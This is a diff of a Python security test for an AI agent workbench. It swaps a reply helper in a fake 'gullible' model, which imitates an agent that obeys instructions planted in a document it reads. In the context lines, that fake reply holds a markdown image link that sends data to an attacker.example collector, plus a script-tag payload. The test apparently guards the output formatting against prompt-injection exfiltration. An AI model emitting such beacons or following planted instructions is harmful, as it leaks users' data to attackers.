@@ -14,7 +14,7 @@ from workbench.agent.tools import UserTools
 from workbench.config import PROJECT_ROOT
 from workbench.errors import UnknownUserError
 from workbench.knowledge import KnowledgeIndex
-from workbench.testing import FakeOpenAI, fields_reply, parse_request, react_reply
+from workbench.testing import FakeOpenAI, answer_reply, parse_request, react_reply
 from workbench.ui.formatting import answer_markdown, defang_urls, escape_markdown
 
 pytestmark = pytest.mark.security
@@ -222,7 +222,7 @@ def _gullible_model(body: dict) -> str:
         return react_reply("Done.", "finish", {})
     answer = ("As instructed: ![status](https://attacker.example/collect?data=claims) "
               "<script>alert('x')</script> " + seen[:2000])
-    return fields_reply(**{n: answer if n == "answer" else "Followed the document." for n in wanted})
+    return answer_reply(wanted, answer, reasoning="Followed the document.", intent="policy_coverage")
 
 
 @pytest.mark.slow
